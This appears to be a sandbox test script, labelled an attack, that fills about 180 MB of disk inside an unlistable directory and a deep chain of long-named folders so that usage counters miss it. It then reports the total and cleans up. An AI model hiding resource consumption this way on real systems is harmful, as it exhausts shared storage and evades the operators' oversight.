# Attack: fills the disk where nobody counts: in folders that can't be listed, and too deep ones.
# Kind: resources
# Costs: own

import os


def fill(folder):
    written = 0
    for number in range(12):
        try:
            with open(f"{folder}/{number}", "wb") as file:
                for _ in range(15):
                    written += file.write(bytes(2**20))
        except OSError:
            break
        time.sleep(0.1)
    return written


import time

start = os.getcwd()
os.makedirs("unlisted", mode=0o300, exist_ok=True)
written = fill("unlisted")
try:
    for _ in range(30):
        os.makedirs("d" * 200, exist_ok=True)
        os.chdir("d" * 200)
    written += fill(".")
except OSError:
    pass
os.chdir(start)
if written > 100 * 2**20:
    through(f"put {written >> 20} MB where nobody looks")
import shutil

os.chmod("unlisted", 0o700)
shutil.rmtree("unlisted")
shutil.rmtree("d" * 200)
